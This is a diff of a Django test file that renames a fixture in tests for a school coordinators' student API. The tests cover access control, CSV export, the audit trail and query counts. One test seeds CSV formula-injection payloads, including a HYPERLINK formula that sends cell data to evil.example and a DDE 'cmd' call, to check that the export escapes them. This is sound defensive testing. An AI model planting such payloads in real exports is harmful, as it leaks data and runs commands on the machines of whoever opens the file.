@@ -25,7 +25,7 @@ pytestmark = pytest.mark.django_db
 
 
 @pytest.fixture
-def w(as_user):  # type: ignore[no-untyped-def]
+def school_students(as_user):  # type: ignore[no-untyped-def]
     a, b = SchoolFactory(name="Alpha"), SchoolFactory(name="Beta")
     ada = VerifiedStudentFactory(first_name="Ada", last_name="Zed", verification__school=a)
     bob = VerifiedStudentFactory(first_name="Bob", last_name="Young", verification__school=a)
@@ -51,8 +51,8 @@ def w(as_user):  # type: ignore[no-untyped-def]
     )
 
 
-def test_a_coordinator_sees_their_students_and_what_they_earned(w):  # type: ignore[no-untyped-def]
-    res = w.coord_a.get(f"/api/v1/schools/{w.a.pk}/students/")
+def test_a_coordinator_sees_their_students_and_what_they_earned(school_students):  # type: ignore[no-untyped-def]
+    res = school_students.coord_a.get(f"/api/v1/schools/{school_students.a.pk}/students/")
     assert res.status_code == 200
     rows = res.json()["results"]
     assert [(r["first_name"], r["completed_contracts"], r["earned"]) for r in rows] == [
@@ -65,16 +65,21 @@ def test_a_coordinator_sees_their_students_and_what_they_earned(w):  # type: ign
     ("who", "code"), [("coord_b", 404), ("company", 403), ("student", 403), ("staff", 200)]
 )
 @pytest.mark.parametrize("page", ["students/", "students/export/", "audit-trail/"])
-def test_only_the_school_and_staff_see_its_pages(w, who, code, page):  # type: ignore[no-untyped-def]
-    assert getattr(w, who).get(f"/api/v1/schools/{w.a.pk}/{page}").status_code == code
+def test_only_the_school_and_staff_see_its_pages(school_students, who, code, page):  # type: ignore[no-untyped-def]
+    assert (
+        getattr(school_students, who)
+        .get(f"/api/v1/schools/{school_students.a.pk}/{page}")
+        .status_code
+        == code
+    )
 
 
-def test_unknown_school_is_404(w):  # type: ignore[no-untyped-def]
-    assert w.staff.get("/api/v1/schools/999999/students/").status_code == 404
+def test_unknown_school_is_404(school_students):  # type: ignore[no-untyped-def]
+    assert school_students.staff.get("/api/v1/schools/999999/students/").status_code == 404
 
 
-def test_csv_export_has_every_student_with_formatted_earnings(w):  # type: ignore[no-untyped-def]
-    res = w.coord_a.get(f"/api/v1/schools/{w.a.pk}/students/export/")
+def test_csv_export_has_every_student_with_formatted_earnings(school_students):  # type: ignore[no-untyped-def]
+    res = school_students.coord_a.get(f"/api/v1/schools/{school_students.a.pk}/students/export/")
     assert res.status_code == 200
     assert res["Content-Type"].startswith("text/csv")
     rows = list(csv.DictReader(io.StringIO(b"".join(res.streaming_content).decode())))
@@ -84,10 +89,14 @@ def test_csv_export_has_every_student_with_formatted_earnings(w):  # type: ignor
     ]
 
 
-def test_the_audit_trail_records_who_decided_what_and_why(w, as_user):  # type: ignore[no-untyped-def]
-    pending = VerificationFactory(school=w.a, status="pending_review")
-    w.coord_a.post(f"/api/v1/verifications/{pending.pk}/reject/", {"reason": "Not enrolled"})
-    events = w.coord_a.get(f"/api/v1/schools/{w.a.pk}/audit-trail/").json()["results"]
+def test_the_audit_trail_records_who_decided_what_and_why(school_students, as_user):  # type: ignore[no-untyped-def]
+    pending = VerificationFactory(school=school_students.a, status="pending_review")
+    school_students.coord_a.post(
+        f"/api/v1/verifications/{pending.pk}/reject/", {"reason": "Not enrolled"}
+    )
+    events = school_students.coord_a.get(
+        f"/api/v1/schools/{school_students.a.pk}/audit-trail/"
+    ).json()["results"]
     assert (events[0]["from_status"], events[0]["to_status"], events[0]["reason"]) == (
         "pending_review",
         "rejected",
@@ -97,11 +106,11 @@ def test_the_audit_trail_records_who_decided_what_and_why(w, as_user):  # type: 
     assert events[0]["student"]["id"] == pending.student_id
 
 
-def test_revoking_withdraws_open_bids_and_keeps_decided_ones(w):  # type: ignore[no-untyped-def]
+def test_revoking_withdraws_open_bids_and_keeps_decided_ones(school_students):  # type: ignore[no-untyped-def]
     open_brief, other = ProjectFactory(), ProjectFactory()
     open_bid = Bid.objects.create(
         project=open_brief,
-        student=w.ada,
+        student=school_students.ada,
         amount_cents=5_000,
         currency="EUR",
         estimated_days=3,
@@ -109,15 +118,15 @@ def test_revoking_withdraws_open_bids_and_keeps_decided_ones(w):  # type: ignore
     )
     decided = Bid.objects.create(
         project=other,
-        student=w.ada,
+        student=school_students.ada,
         amount_cents=5_000,
         currency="EUR",
         estimated_days=3,
         cover_letter="x",
         status=Bid.Status.REJECTED,
     )
-    verification = w.ada.enrolment_verifications.get()
-    res = w.coord_a.post(
+    verification = school_students.ada.enrolment_verifications.get()
+    res = school_students.coord_a.post(
         f"/api/v1/verifications/{verification.pk}/revoke/", {"reason": "Left the school"}
     )
     assert res.status_code == 200 and res.json()["status"] == "revoked"
@@ -125,7 +134,7 @@ def test_revoking_withdraws_open_bids_and_keeps_decided_ones(w):  # type: ignore
     decided.refresh_from_db()
     assert (open_bid.status, decided.status) == ("withdrawn", "rejected")
     assert (
-        w.coord_b.post(
+        school_students.coord_b.post(
             f"/api/v1/verifications/{verification.pk}/revoke/", {"reason": "x"}
         ).status_code
         == 404
@@ -150,32 +159,34 @@ def test_a_malformed_address_filter_is_a_400(api, email):  # type: ignore[no-unt
 
 
 @pytest.mark.parametrize("page", ["students/", "audit-trail/"])
-def test_query_count_does_not_grow_with_the_page(w, page):  # type: ignore[no-untyped-def]
+def test_query_count_does_not_grow_with_the_page(school_students, page):  # type: ignore[no-untyped-def]
     from django.db import connection
     from django.test.utils import CaptureQueriesContext
 
-    url = f"/api/v1/schools/{w.a.pk}/{page}"
+    url = f"/api/v1/schools/{school_students.a.pk}/{page}"
     VerificationEvent.objects.create(
-        verification=w.ada.enrolment_verifications.get(), actor=w.ada, to_status="verified"
+        verification=school_students.ada.enrolment_verifications.get(),
+        actor=school_students.ada,
+        to_status="verified",
     )
     with CaptureQueriesContext(connection) as small:
-        assert w.coord_a.get(url).status_code == 200
+        assert school_students.coord_a.get(url).status_code == 200
     for _ in range(6):
-        student = VerifiedStudentFactory(verification__school=w.a)
+        student = VerifiedStudentFactory(verification__school=school_students.a)
         VerificationEvent.objects.create(
             verification=student.enrolment_verifications.get(), actor=student, to_status="x"
         )
     with CaptureQueriesContext(connection) as large:
-        assert w.coord_a.get(url).json()["count"] >= 6
+        assert school_students.coord_a.get(url).json()["count"] >= 6
     assert len(small) == len(large)
 
 
-def test_the_export_does_not_run_what_students_typed(w):  # type: ignore[no-untyped-def]
-    w.bob.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-    w.bob.last_name = "+SUM(1,1)"
-    w.bob.save()
-    w.bob.enrolment_verifications.update(program="@SUM(1+1)*cmd|' /C calc'!A0")
-    res = w.coord_a.get(f"/api/v1/schools/{w.a.pk}/students/export/")
+def test_the_export_does_not_run_what_students_typed(school_students):  # type: ignore[no-untyped-def]
+    school_students.bob.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    school_students.bob.last_name = "+SUM(1,1)"
+    school_students.bob.save()
+    school_students.bob.enrolment_verifications.update(program="@SUM(1+1)*cmd|' /C calc'!A0")
+    res = school_students.coord_a.get(f"/api/v1/schools/{school_students.a.pk}/students/export/")
     rows = list(csv.DictReader(io.StringIO(b"".join(res.streaming_content).decode())))
     bob = next(r for r in rows if r["last_name"].endswith("SUM(1,1)"))
     assert bob["first_name"].startswith("'=HYPERLINK")
